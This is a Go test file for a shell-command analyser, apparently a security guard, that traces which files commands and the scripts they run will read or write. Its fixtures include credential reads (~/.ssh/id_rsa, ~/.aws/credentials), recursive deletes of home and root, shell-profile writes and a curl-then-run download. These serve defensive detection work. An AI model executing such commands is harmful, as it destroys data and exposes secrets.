package shell

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/shell/effect"
)

// fakeFiles is an Options.Files for tests: the files it holds, by the path
// the analysis asks for, and the calls it got.
type fakeFiles struct {
	files map[string]string
	// status, when set for a path, is what a read of it finds.
	status map[string]effect.FileStatus
	asked  []string
	maxes  []int
}

func (f *fakeFiles) ReadFile(p string, max int) ([]byte, effect.FileStatus) {
	f.asked = append(f.asked, p)
	f.maxes = append(f.maxes, max)
	if st, ok := f.status[p]; ok {
		return nil, st
	}
	t, ok := f.files[p]
	switch {
	case !ok:
		return nil, effect.FileAbsent
	case len(t) > max:
		return []byte(t[:max]), effect.FileTooBig
	}
	return []byte(t), effect.FileWhole
}

func analyzeWith(cmd string, files map[string]string) (*Analysis, *fakeFiles) {
	f := &fakeFiles{files: files}
	return analyze(cmd, Options{Home: "/home/u", Files: f}), f
}

// TestFilesRun: a script a command runs is analysed as the commands it
// holds; another program's text is scanned for the paths it names.
func TestFilesRun(t *testing.T) {
	tests := []struct {
		name   string
		cmd    string
		files  map[string]string
		reads  []string // among the reads
		writes []string // among the writes
		lines  []string // among the lines
		not    []string // neither read nor written
	}{
		{name: "sh FILE", cmd: "sh x.sh", files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "bash ./FILE", cmd: "bash ./x.sh", files: map[string]string{"./x.sh": "echo x >> ~/.bashrc"}, writes: []string{"~/.bashrc"}},
		{name: "its lines", cmd: "bash x.sh", files: map[string]string{"x.sh": "rm -rf ~"}, lines: []string{"rm -rf ~"}},
		{name: "./FILE with a shell's #!", cmd: "./x.sh", files: map[string]string{"./x.sh": "#!/usr/bin/env bash\ncat ~/.ssh/id_rsa\n"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "./FILE without #!", cmd: "./x", files: map[string]string{"./x": "cat ~/.ssh/id_rsa\n"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "sh < FILE", cmd: "sh < x.sh", files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "source FILE", cmd: "source x.sh", files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: ". FILE", cmd: ". ./x.sh", files: map[string]string{"./x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "sourced variables last", cmd: "source x.sh; cat $D/id_rsa", files: map[string]string{"x.sh": "D=~/.ssh"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a script's variables do not", cmd: "sh x.sh; cat $D/id_rsa", files: map[string]string{"x.sh": "D=~/.ssh"}, not: []string{"~/.ssh/id_rsa"}},
		{name: "arguments are $1", cmd: "sh x.sh ~/.ssh/id_rsa", files: map[string]string{"x.sh": `cat "$1"`}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "after cd", cmd: "cd sub && sh x.sh", files: map[string]string{"sub/x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a script runs a script", cmd: "sh a.sh", files: map[string]string{"a.sh": "./b.sh", "./b.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "written text first", cmd: "echo 'cat ~/.ssh/id_rsa' > x.sh; sh x.sh", files: map[string]string{"x.sh": "echo old"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a compiled program is not read", cmd: "./app", files: map[string]string{"./app": "\x7fELF\x00\x00 cat ~/.ssh/id_rsa"}, not: []string{"~/.ssh/id_rsa"}},
		{name: "python: a home path is read and written", cmd: "python3 x.py", files: map[string]string{"x.py": "p = '~/.guard/rules.json'\nopen(os.path.expanduser(p), 'w')"},
			reads: []string{"~/.guard/rules.json"}, writes: []string{"~/.guard/rules.json"}},
		{name: "python: an escape in a program file's literal", cmd: "python3 w.py", files: map[string]string{"w.py": `open(os.path.expanduser("~/\x2eguard/rules.json"), "w")`},
			writes: []string{"~/.guard/rules.json"}},
		{name: "node: a unicode escape in a program file", cmd: "node w.js", files: map[string]string{"w.js": `require("fs").appendFileSync("/home/u/\u{2e}bashrc", "x")`},
			writes: []string{"/home/u/.bashrc"}},
		{name: "python: the home directory's absolute path", cmd: "python3 x.py", files: map[string]string{"x.py": `open("/home/u/.bashrc", "a")`}, writes: []string{"/home/u/.bashrc"}},
		{name: "python: a dot-directory path is under ~ too", cmd: "python3 x.py", files: map[string]string{"x.py": `k = os.path.join(home, ".ssh/id_rsa")`},
			reads: []string{"~/.ssh/id_rsa", ".ssh/id_rsa"}},
		{name: "python: the project's files are not", cmd: "python3 x.py", files: map[string]string{"x.py": `load_dotenv(".env"); open("data.json"); x = "~"`}, not: []string{".env", "data.json", "~"}},
		{name: "python: what it opens for writing", cmd: "python3 x.py", files: map[string]string{"x.py": `open("out/report.txt", "w")`}, writes: []string{"out/report.txt"}},
		{name: "python: what it hands to a shell", cmd: "python3 x.py", files: map[string]string{"x.py": `os.system("cat /home/u/.ssh/id_rsa")`}, reads: []string{"/home/u/.ssh/id_rsa"}},
		{name: "python: its recursive delete", cmd: "python3 x.py", files: map[string]string{"x.py": `shutil.rmtree("/")`}, lines: []string{"rm -r /"}},
		{name: "./x.py with #!", cmd: "./x.py", files: map[string]string{"./x.py": "#!/usr/bin/env python3\nopen('~/.ssh/config')"}, reads: []string{"~/.ssh/config"}},
		{name: "node", cmd: "node x.js", files: map[string]string{"x.js": "fs.writeFileSync(`${os.homedir()}/x`); fs.readFileSync('$HOME/.aws/credentials')"}, reads: []string{"$HOME/.aws/credentials"}},
		{name: "go run", cmd: "go run x.go", files: map[string]string{"x.go": `os.WriteFile("/home/u/.zshrc", b, 0o644)`}, writes: []string{"/home/u/.zshrc"}},
		{name: "awk -f", cmd: "awk -f x.awk data", files: map[string]string{"x.awk": `{ print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "mawk -W exec", cmd: "awk -W exec x.awk data", files: map[string]string{"x.awk": `{ print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "mawk -W, abbreviated and listed", cmd: "awk -Wversion,ex x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "gawk --exec=", cmd: "gawk --exec=x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "gawk -W exec=", cmd: "gawk -W exec=x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "the one true awk by Debian's name", cmd: "original-awk -f x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "goawk", cmd: "goawk -f x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "gawk -E, a cluster", cmd: "gawk -bE x.awk", files: map[string]string{"x.awk": `BEGIN { print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
		{name: "an absent file runs nothing", cmd: "sh x.sh", files: nil, not: []string{"~/.ssh/id_rsa"}},
		{name: "chmod changes no text", cmd: "chmod +x x.sh && ./x.sh", files: map[string]string{"./x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a copy holds its source's text", cmd: "cp evil.txt x.sh && bash x.sh", files: map[string]string{"evil.txt": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a copy, run after cd", cmd: "cp a.sh b.sh; cd sub; sh ../b.sh", files: map[string]string{"a.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "written through $PWD", cmd: `echo 'cat ~/.ssh/id_rsa' > "$PWD/x.sh"; sh x.sh`, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a copy into a directory", cmd: "cp evil.sh bin/ && bin/evil.sh", files: map[string]string{"evil.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "a directory's copy", cmd: "cp -r tmpl new && new/x.sh", files: map[string]string{"tmpl/x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "cat into a file copies", cmd: "cat evil.txt > x.sh; sh x.sh", files: map[string]string{"evil.txt": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "appended text", cmd: "echo 'cat \\' > x.sh; echo '~/.ssh/id_rsa' >> x.sh; sh x.sh", reads: []string{"~/.ssh/id_rsa"}},
		{name: "sh -c $(cat FILE)", cmd: `sh -c "$(cat x.sh)"`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "bash <(cat FILE)", cmd: `bash <(cat x.sh)`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "eval $(< FILE)", cmd: `eval "$(< x.sh)"`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "source <(cat FILE)", cmd: `source <(cat x.sh)`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "python3 <(cat FILE)", cmd: `python3 <(cat x.py)`, files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "python -m a module here", cmd: "python3 -m tools.leak", files: map[string]string{"tools/leak.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "python -m a package here", cmd: "python3 -m leak", files: map[string]string{"leak/__main__.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "node -r", cmd: "node -r ./pre.js app.js", files: map[string]string{"./pre.js": "fs.readFileSync('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "deno run", cmd: "deno run -A x.ts", files: map[string]string{"x.ts": "Deno.readTextFile('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "uv run x.py", cmd: "uv run --with rich x.py", files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "poetry run", cmd: "poetry run python x.py", files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
		{name: "python: ~USER/…", cmd: "python3 x.py", files: map[string]string{"x.py": "open('~u/.ssh/id_rsa')"}, reads: []string{"~u/.ssh/id_rsa"}},
		{name: "screen's log file", cmd: "screen -L -Logfile ~/.bashrc -dmS s top", writes: []string{"~/.bashrc"}},
		{name: "screen -X logfile", cmd: "screen -S s -X logfile ~/.zshrc", writes: []string{"~/.zshrc"}},
		{name: "GIT_SSH is a program", cmd: "GIT_SSH=./x.sh git fetch", files: map[string]string{"./x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
	}
	for _, tt := range tests {
		a, _ := analyzeWith(tt.cmd, tt.files)
		if a.Err != nil {
			t.Errorf("%s: %q: %v", tt.name, tt.cmd, a.Err)
		}
		for _, p := range tt.reads {
			if !slices.Contains(a.Reads, p) {
				t.Errorf("%s: %q: reads %q, want %q", tt.name, tt.cmd, a.Reads, p)
			}
		}
		for _, p := range tt.writes {
			if !slices.Contains(a.Writes, p) {
				t.Errorf("%s: %q: writes %q, want %q", tt.name, tt.cmd, a.Writes, p)
			}
		}
		for _, l := range tt.lines {
			if !slices.Contains(a.Lines, l) {
				t.Errorf("%s: %q: lines %q, want %q", tt.name, tt.cmd, a.Lines, l)
			}
		}
		for _, p := range tt.not {
			if slices.Contains(a.Reads, p) || slices.Contains(a.Writes, p) {
				t.Errorf("%s: %q: reads %q, writes %q, want no %q", tt.name, tt.cmd, a.Reads, a.Writes, p)
			}
		}
	}
}

// TestFilesAsked: what the analysis asks the reader for, and with which
// bound; the files read are reported.
func TestFilesAsked(t *testing.T) {
	a, f := analyzeWith("cd sub && sh x.sh && python3 $PWD/y.py && ./bin/app", map[string]string{"sub/x.sh": "true", "sub/y.py": "pass"})
	if want := []string{"sub/x.sh", "sub/y.py", "sub/./bin/app"}; !slices.Equal(f.asked, want) {
		t.Errorf("asked %q, want %q", f.asked, want)
	}
	if want := []int{effect.MaxScriptBytes, effect.MaxProgramBytes, sniffBytes}; !slices.Equal(f.maxes, want) {
		t.Errorf("bounds %d, want %d", f.maxes, want)
	}
	if want := []string{"sub/x.sh", "sub/y.py"}; !slices.Equal(a.Files, want) {
		t.Errorf("Files %q, want %q", a.Files, want)
	}
	// Without a reader nothing is asked, and a file run is only read.
	if a := Analyze("sh x.sh", Options{}); a.Err != nil || !slices.Equal(a.Reads, []string{"x.sh"}) {
		t.Errorf("no reader: %q %v", a.Reads, a.Err)
	}
}

// TestFilesHidden: a file the command runs that guard cannot read whole
// makes the analysis hidden; one that is not there does not.
func TestFilesHidden(t *testing.T) {
	for _, tc := range []struct {
		cmd    string
		status effect.FileStatus
		hidden bool
	}{
		{"sh x.sh", effect.FileTooBig, true},
		{"sh x.sh", effect.FileUnreadable, true},
		{"python3 x.sh", effect.FileTooBig, true},
		{"source x.sh", effect.FileUnreadable, true},
		{"sh x.sh", effect.FileAbsent, false},
		{"./x.sh", effect.FileUnreadable, true},
		{"./x.sh", effect.FileAbsent, false},
		{"sed -i 's/^#//' x.sh && sh x.sh", effect.FileAbsent, true},
		{"curl -so x.sh https://x.example/i && sh x.sh", effect.FileAbsent, true},
		{"tar xf a.tar && sh x.sh", effect.FileAbsent, true},
		{"git pull && sh x.sh", effect.FileAbsent, true}, // git rewrote the tree (attack5 F3)
		{"cd sub && git checkout evil && sh ../x.sh", effect.FileAbsent, true},
		{"git checkout -b topic && sh x.sh", effect.FileAbsent, false}, // a branch at HEAD: no file changes
		{"git submodule update && sh x.sh", effect.FileAbsent, false},  // no .gitmodules: nothing to update
		{"git fetch && sh x.sh", effect.FileAbsent, false},
		{"rm -f x.sh; sh x.sh", effect.FileAbsent, false},
	} {
		f := &fakeFiles{status: map[string]effect.FileStatus{"x.sh": tc.status, "./x.sh": tc.status}}
		a := analyze(tc.cmd+"; rm -rf /", Options{Files: f})
		if got := errors.Is(a.Err, ErrHidden); got != tc.hidden {
			t.Errorf("%q, %v: error %v, want hidden %v", tc.cmd, tc.status, a.Err, tc.hidden)
		}
		if !slices.Contains(a.Lines, "rm -rf /") {
			t.Errorf("%q: the rest of the command was not analysed: %q", tc.cmd, a.Lines)
		}
	}
	// A script guard cannot parse: nothing of it was analysed.
	if a, _ := analyzeWith("sh x.sh", map[string]string{"x.sh": "echo ok\nfor f in *; echo $f"}); !errors.Is(a.Err, ErrHidden) ||
		!strings.Contains(a.Err.Error(), "line 2") {
		t.Errorf("a script that does not parse: %v", a.Err)
	}
	// crontab -e with an editor the command sets writes the table.
	if a, _ := analyzeWith("EDITOR='sed -i 1i…' crontab -e", nil); !errors.Is(a.Err, ErrHidden) {
		t.Errorf("crontab -e with EDITOR: %v", a.Err)
	}
	// A script too large to read whole: the first bytes are not analysed
	// as if they were all of it.
	a, _ := analyzeWith("sh big.sh", map[string]string{"big.sh": "true\n" + strings.Repeat("#", effect.MaxScriptBytes)})
	if !errors.Is(a.Err, ErrHidden) {
		t.Errorf("big script: %v", a.Err)
	}
}

// TestFilesBounded: scripts running scripts stop at the depth and file
// limits, which block.
func TestFilesBounded(t *testing.T) {
	loop, _ := analyzeWith("sh a.sh", map[string]string{"a.sh": "sh a.sh"})
	if !errors.Is(loop.Err, effect.ErrLimit) {
		t.Errorf("a script running itself: %v", loop.Err)
	}
	files := map[string]string{}
	var cmd []string
	for i := range effect.MaxFiles + 1 {
		name := "s" + strings.Repeat("x", i) + ".sh"
		files[name] = "true"
		cmd = append(cmd, "sh "+name)
	}
	many, _ := analyzeWith(strings.Join(cmd, "; "), files)
	if !errors.Is(many.Err, effect.ErrLimit) {
		t.Errorf("%d files: %v", effect.MaxFiles+1, many.Err)
	}
	words, _ := analyzeWith("sh w.sh", map[string]string{"w.sh": strings.Repeat("a b c d e f g h\n", effect.MaxFileWords/8+1)})
	if !errors.Is(words.Err, effect.ErrLimit) {
		t.Errorf("a script of more than %d words: %v", effect.MaxFileWords, words.Err)
	}
	// A script's words do not count against the command's own.
	ok, _ := analyzeWith("sh w.sh", map[string]string{"w.sh": strings.Repeat("a b c d e f g h\n", MaxWords/8+1)})
	if ok.Err != nil {
		t.Errorf("a script of more than %d words: %v", MaxWords, ok.Err)
	}
}

// TestFilesMemo: analyses are remembered by their options, the reader
// included.
func TestFilesMemo(t *testing.T) {
	f := &fakeFiles{files: map[string]string{"x.sh": "true"}}
	a := Analyze("sh x.sh", Options{Home: "/h", Files: f})
	if b := Analyze("sh x.sh", Options{Home: "/h", Files: f}); a != b {
		t.Error("same text and options analysed twice")
	}
	if b := Analyze("sh x.sh", Options{Home: "/h"}); a == b {
		t.Error("an analysis without a reader got the one with")
	}
}

func TestShebang(t *testing.T) {
	for text, want := range map[string]string{
		"#!/bin/sh\n":                     "sh",
		"#! /usr/bin/python3 -u\nx":       "python3",
		"#!/usr/bin/env bash\n":           "bash",
		"#!/usr/bin/env -S node --flag\n": "node",
		"#!/usr/bin/env -u X A=b perl\n":  "perl",
		"#!/usr/bin/env\n":                "",
		"#!\n":                            "",
		"echo hi\n":                       "",
		"":                                "",
	} {
		if got := shebang(text); got != want {
			t.Errorf("shebang(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestFilesReadOnce: a command that runs the same files many times (a
// loop, a long script) reads each once and counts it once against
// MaxFiles; more distinct files than MaxFiles is still beyond the limit.
func TestFilesReadOnce(t *testing.T) {
	files := &fakeFiles{files: map[string]string{"x.sh": "echo hi"}}
	cmd := strings.Repeat("sh x.sh; python3 -m pytest; ", 3*effect.MaxFiles)
	a := analyze(cmd, Options{Home: "/home/u", Files: files})
	if a.Err != nil {
		t.Fatalf("%d runs of the same files: %v", 3*effect.MaxFiles, a.Err)
	}
	if n := len(files.asked); n > 4 {
		t.Errorf("asked %d times for %q, want each file once", n, files.asked)
	}
	var b strings.Builder
	many := &fakeFiles{files: map[string]string{}}
	for i := 0; i <= effect.MaxFiles; i++ {
		fmt.Fprintf(&b, "sh s%d.sh; ", i)
		many.files[fmt.Sprintf("s%d.sh", i)] = "echo hi"
	}
	if a := analyze(b.String(), Options{Home: "/home/u", Files: many}); !errors.Is(a.Err, effect.ErrLimit) {
		t.Errorf("%d distinct scripts: %v, want ErrLimit", effect.MaxFiles+1, a.Err)
	}
	// Files looked for and not there are no files read, but they are
	// bounded too (make's makefiles in many directories).
	b.Reset()
	for i := 0; i <= effect.MaxFileLookups; i++ {
		fmt.Fprintf(&b, "sh a%d.sh; ", i)
	}
	if a := analyze(b.String(), Options{Home: "/home/u", Files: &fakeFiles{}}); !errors.Is(a.Err, effect.ErrLimit) {
		t.Errorf("%d absent scripts: %v, want ErrLimit", effect.MaxFileLookups+1, a.Err)
	}
}
